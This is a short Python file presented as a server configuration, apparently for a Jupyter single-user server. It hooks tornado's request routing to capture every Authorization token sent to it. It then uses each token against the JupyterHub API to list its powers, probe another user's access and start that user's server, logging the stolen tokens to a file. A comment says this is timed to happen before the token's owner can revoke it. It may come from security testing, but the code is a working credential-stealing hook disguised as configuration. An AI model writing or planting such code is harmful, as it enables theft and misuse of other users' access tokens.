# A server's configuration, by which its owner learns what each token that comes by is good for.
import json
import threading
import urllib.error
import urllib.request

from tornado.web import Application

API = "http://127.0.0.1:482/jupyter/hub/api"
find_handler = Application.find_handler


def ask(token, path, method="GET"):
    headers = {"Authorization": f"token {token}"}
    body = b"{}" if method == "POST" else None
    try:
        with urllib.request.urlopen(urllib.request.Request(API + path, body, headers, method=method)) as answer:
            return answer.status, json.load(answer) if method == "GET" else None
    except urllib.error.HTTPError as error:
        return error.code, {}


def note(token):
    able = [scope for scope in ask(token, "/user")[1].get("scopes", []) if not scope.startswith("read:")]
    told = [token, *able, f"guest:{ask(token, '/users/guest')[0]}", f"start:{ask(token, '/users/guest/server', 'POST')[0]}"]
    with open("/home/test-user/seen", "a") as seen:
        seen.write(" ".join(told) + "\n")


known = set()


def watch(self, request, **options):
    kind, _, token = request.headers.get("Authorization", "").partition(" ")
    if token and token not in known:
        known.add(token)
        # The Hub is asked before the owner of the token gets an answer, and revokes it.
        thread = threading.Thread(target=note, args=[token])
        thread.start()
        thread.join(5)
    return find_handler(self, request, **options)


Application.find_handler = watch
